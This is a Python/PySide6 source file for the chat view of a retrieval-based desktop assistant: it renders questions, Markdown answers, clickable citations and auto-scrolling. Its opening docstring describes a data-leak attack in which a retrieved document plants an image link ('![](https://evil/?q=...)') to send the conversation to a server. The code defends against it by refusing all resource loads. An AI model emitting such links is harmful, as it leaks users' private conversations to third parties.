"""The conversation: questions, answers rendered as Markdown, clickable citations.

Answers are built from retrieved documents, and a document can carry an image link meant
to leak the conversation to a server (``![](https://evil/?q=...)``). So the view never
loads anything: its document refuses every resource, raw HTML in answers is shown as
text, and links open only when clicked.

The document is built with a cursor, one message after the other; the answer being
streamed is the last segment and is re-rendered in place, so a long chat costs nothing
per token.

The view follows the conversation: while the reader is at the bottom, every change of
the document's height scrolls it along (the layout of a long document is finished in
steps, after the text changed, so "scroll to the end" right after an edit would fall
short). Scrolling up stops following and shows "Jump to latest"; reaching the bottom
again, or the button, resumes it.
"""

from __future__ import annotations

import html
import logging
import re
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from PySide6.QtCore import Qt, QUrl, Signal
from PySide6.QtGui import (
    QColor,
    QFont,
    QGuiApplication,
    QPalette,
    QResizeEvent,
    QTextBlockFormat,
    QTextCharFormat,
    QTextCursor,
    QTextDocument,
    QTextDocumentFragment,
)
from PySide6.QtWidgets import QTextBrowser, QToolButton, QWidget

from desk_assistant.api import Answer, Citation, Message
from ui.icons import render
from ui.passages import snippet
from ui.theme import colors

log = logging.getLogger(__name__)

_MARKDOWN = (
    QTextDocument.MarkdownFeature.MarkdownDialectGitHub
    | QTextDocument.MarkdownFeature.MarkdownNoHTML
)
_MARKER = re.compile(r"\[(\d{1,3})\](?!\()")
_AT_END = 8  # pixels from the bottom that still count as "at the latest message"
_INFO_ICON = QUrl("icon:info")  # an image the document holds itself: nothing is loaded


@dataclass(frozen=True, slots=True)
class Reply:
    """An answer as the view shows it: finished, stored or still streaming."""

    question: str
    text: str
    citations: tuple[Citation, ...] = ()
    grounded: bool = True
    stopped: bool = False

    @classmethod
    def from_answer(cls, answer: Answer) -> Reply:
        return cls(answer.question, answer.text, answer.citations, answer.grounded, answer.stopped)


class SafeDocument(QTextDocument):
    """A text document that loads no resource at all: no image, no stylesheet, no URL."""

    def loadResource(self, type: int, name: QUrl | str) -> Any:
        url = name.toString() if isinstance(name, QUrl) else name
        log.info("refused to load a resource into the chat: %s", url)
        return None


def link_citations(text: str, index: int, numbers: set[int]) -> str:
    """Markdown with each known ``[n]`` turned into a link the view understands."""

    def link(match: re.Match[str]) -> str:
        n = int(match.group(1))
        return f"[\\[{n}\\]](cite:{index}:{n})" if n in numbers else match.group(0)

    return _MARKER.sub(link, text)


def source_label(citation: Citation) -> str:
    name = Path(citation.path).name
    return f"{name}, page {citation.page}" if citation.page else name


class ChatView(QTextBrowser):
    """A read-only conversation; link clicks become signals, never navigation."""

    citation_clicked = Signal(object, str)  # Citation, the answer that cites it
    copy_requested = Signal(str)  # the answer's text
    regenerate_requested = Signal(str)  # the question
    external_link_clicked = Signal(QUrl)

    def __init__(self, parent: QWidget | None = None) -> None:
        super().__init__(parent)
        document = SafeDocument(self)
        document.setUndoRedoEnabled(False)  # read-only: an undo stack would only grow
        self.setDocument(document)
        self.setOpenLinks(False)
        self.setOpenExternalLinks(False)
        self.setAcceptDrops(False)  # files dropped here go to the window: they are ingested
        self.anchorClicked.connect(self._on_anchor)
        self._replies: list[Reply] = []
        self._streaming_from: int | None = None
        self._placeholder = ""
        self._showing_placeholder = False
        self._following = True  # keep the latest message in view
        self._scrolling = False  # the view moves the scroll bar itself, not the reader
        bar = self.verticalScrollBar()
        bar.rangeChanged.connect(self._range_changed)
        bar.valueChanged.connect(self._scrolled)
        self.jump_button = QToolButton(self)
        self.jump_button.setText("Jump to latest")
        self.jump_button.setToolTip("Show the newest message and follow the answer (Ctrl+End)")
        self.jump_button.setAccessibleName("Jump to the latest message")
        self.jump_button.setToolButtonStyle(Qt.ToolButtonStyle.ToolButtonTextBesideIcon)
        self.jump_button.setObjectName("jumpButton")
        self.jump_button.clicked.connect(self.follow)
        self.jump_button.hide()

    def loadResource(self, type: int, name: QUrl | str) -> Any:
        return self.document().loadResource(type, QUrl(name))

    # building the conversation ---------------------------------------------------------

    def set_placeholder(self, text: str) -> None:
        """What an empty conversation says (how to start), as HTML."""
        self._placeholder = text
        if self._showing_placeholder or self.document().isEmpty():
            self.clear_conversation()

    def clear_conversation(self) -> None:
        self._reset()
        if self._placeholder:
            self._end().insertHtml(self._placeholder)
            self._showing_placeholder = True

    def show_messages(self, messages: list[Message]) -> None:
        if not messages:
            self.clear_conversation()
            return
        self._reset()
        with self._editing():
            self._add_messages(messages)
        self.follow()

    def _add_messages(self, messages: list[Message]) -> None:
        question = ""
        for message in messages:
            if message.role == "user":
                question = message.text
                self.add_question(message.text)
            else:
                self._append_reply(
                    Reply(
                        question, message.text, message.citations, message.grounded, message.stopped
                    )
                )

    def add_question(self, text: str) -> None:
        if self._showing_placeholder:
            self._reset()
        cursor = self._new_block()
        block = QTextBlockFormat()
        block.setBackground(QGuiApplication.palette().color(QPalette.ColorRole.AlternateBase))
        block.setTopMargin(14 if self._replies else 0)
        block.setBottomMargin(8)
        block.setLeftMargin(4)
        cursor.setBlockFormat(block)
        bold = QTextCharFormat()
        bold.setFontWeight(QFont.Weight.Bold)
        cursor.insertText("You  ", bold)
        cursor.insertText(text, QTextCharFormat())
        self.follow()  # the reader asked: show the question and follow its answer

    def begin_answer(self, status: str) -> None:
        """Start the streamed answer with a status line until the first token arrives."""
        self._new_block()
        self._streaming_from = self.document().characterCount() - 1
        self.stream_text("", status)

    def stream_text(self, text: str, status: str = "") -> None:
        """Show the answer so far (the whole text, as Markdown)."""
        if self._streaming_from is None:
            return
        with self._editing():  # one layout change, not a shrink and a growth
            cursor = self._replace_stream()
            if text:
                cursor.insertFragment(QTextDocumentFragment.fromMarkdown(text, _MARKDOWN))
            else:
                muted = QTextCharFormat()
                muted.setForeground(QColor(self._muted()))
                muted.setFontItalic(True)
                cursor.insertText(status, muted)

    def finish_answer(self, reply: Reply) -> None:
        """Replace the streamed text with the final answer, its sources and actions."""
        with self._editing():
            if self._streaming_from is not None:
                self._replace_stream()
                self._streaming_from = None
            self._append_reply(reply, in_place=True)

    @property
    def streaming(self) -> bool:
        return self._streaming_from is not None

    @property
    def following(self) -> bool:
        return self._following

    def follow(self) -> None:
        """Show the latest message and keep it in view as the conversation grows."""
        self._following = True
        self._scroll_to(self.verticalScrollBar().maximum())

    @property
    def replies(self) -> list[Reply]:
        return list(self._replies)

    # rendering --------------------------------------------------------------------------

    def _reset(self) -> None:
        self._following = True
        self.document().clear()
        self._replies = []
        self._streaming_from = None
        self._showing_placeholder = False

    def _append_reply(self, reply: Reply, *, in_place: bool = False) -> None:
        index = len(self._replies)
        self._replies.append(reply)
        cursor = self._end() if in_place else self._new_block()
        numbers = {c.n for c in reply.citations}
        if not reply.grounded and not reply.stopped:
            cursor.insertHtml(f"<p>{self._info_icon()}&nbsp; {html.escape(reply.text)}</p>")
        elif reply.text:
            markdown = link_citations(reply.text, index, numbers)
            cursor.insertFragment(QTextDocumentFragment.fromMarkdown(markdown, _MARKDOWN))
        muted = self._muted()
        if reply.stopped:
            cursor = self._new_block()
            said = "Stopped." if reply.text else "Stopped before the answer began."
            cursor.insertHtml(f"<i style='color:{muted}'>{said}</i>")
        if reply.citations:
            cursor = self._new_block(top_margin=8)
            cursor.insertHtml(f"<b style='color:{muted}'>Sources</b>")
            for citation in reply.citations:
                cursor = self._new_block()
                cursor.insertHtml(
                    f"<a href='cite:{index}:{citation.n}'>[{citation.n}] "
                    f"{html.escape(source_label(citation))}</a>"
                    f" <span style='color:{muted}'>· score {citation.score:.2f}</span><br>"
                    f"<span style='color:{muted}'>{html.escape(snippet(citation.text))}</span>"
                )
        cursor = self._new_block(top_margin=4)
        cursor.insertHtml(
            f"<span style='color:{muted}'><a href='copy:{index}'>Copy</a>"
            f" · <a href='regen:{index}'>Regenerate</a></span>"
        )

    def _replace_stream(self) -> QTextCursor:
        assert self._streaming_from is not None
        cursor = QTextCursor(self.document())
        cursor.setPosition(self._streaming_from)
        cursor.movePosition(QTextCursor.MoveOperation.End, QTextCursor.MoveMode.KeepAnchor)
        cursor.removeSelectedText()
        cursor.setBlockFormat(QTextBlockFormat())
        cursor.setCharFormat(QTextCharFormat())
        return cursor

    def _end(self) -> QTextCursor:
        cursor = QTextCursor(self.document())
        cursor.movePosition(QTextCursor.MoveOperation.End)
        return cursor

    def _new_block(self, top_margin: float = 0) -> QTextCursor:
        """A cursor in a fresh, plainly formatted block at the end of the conversation."""
        cursor = self._end()
        block = QTextBlockFormat()
        block.setTopMargin(top_margin)
        if self.document().characterCount() > 1:
            cursor.insertBlock(block, QTextCharFormat())
        else:
            cursor.setBlockFormat(block)
        return cursor

    def _muted(self) -> str:
        return colors()["muted"]

    def _info_icon(self) -> str:
        """An "i" in a circle as an image the document holds (the "ⓘ" character is a
        missing-glyph box in many fonts), in the palette's muted colour."""
        image = render("info", self._muted()).pixmap(16, 16).toImage()
        self.document().addResource(QTextDocument.ResourceType.ImageResource, _INFO_ICON, image)
        return f"<img src='{_INFO_ICON.toString()}' width='16' height='16'>"

    @contextmanager
    def _editing(self) -> Iterator[None]:
        """Edits as one: the layout (and the scroll range) changes once, at the end."""
        cursor = QTextCursor(self.document())
        cursor.beginEditBlock()
        try:
            yield
        finally:
            cursor.endEditBlock()

    # following the conversation -----------------------------------------------------

    def _scroll_to(self, value: int) -> None:
        self._scrolling = True
        try:
            self.verticalScrollBar().setValue(value)
        finally:
            self._scrolling = False
        self._show_jump()

    def _range_changed(self, _low: int, high: int) -> None:
        if self._following:
            self._scroll_to(high)
        else:
            self._show_jump()

    def _scrolled(self, value: int) -> None:
        if not self._scrolling:  # the reader scrolled: follow only from the bottom
            self._following = value >= self.verticalScrollBar().maximum() - _AT_END
        self._show_jump()

    def _show_jump(self) -> None:
        bar = self.verticalScrollBar()
        below = bar.value() < bar.maximum() - _AT_END
        self.jump_button.setVisible(not self._following and below)
        if self.jump_button.isVisible():
            self._place_jump()

    def _place_jump(self) -> None:
        button = self.jump_button
        button.adjustSize()
        area = self.viewport().geometry()
        button.move(area.right() - button.width() - 12, area.bottom() - button.height() - 12)
        button.raise_()

    def resizeEvent(self, event: QResizeEvent) -> None:
        super().resizeEvent(event)
        self._place_jump()

    # links ------------------------------------------------------------------------------

    def _on_anchor(self, url: QUrl) -> None:
        scheme, _, rest = url.toString().partition(":")
        if scheme == "cite":
            index, _, number = rest.partition(":")
            reply = self._reply(index)
            found = [c for c in reply.citations if str(c.n) == number] if reply else []
            if found and reply:
                self.citation_clicked.emit(found[0], reply.text)
        elif scheme == "copy":
            reply = self._reply(rest)
            if reply:
                self.copy_requested.emit(reply.text)
        elif scheme == "regen":
            reply = self._reply(rest)
            if reply:
                self.regenerate_requested.emit(reply.question)
        elif scheme in ("http", "https", "mailto"):
            self.external_link_clicked.emit(url)

    def _reply(self, index: str) -> Reply | None:
        return (
            self._replies[int(index)]
            if index.isdigit() and int(index) < len(self._replies)
            else None
        )
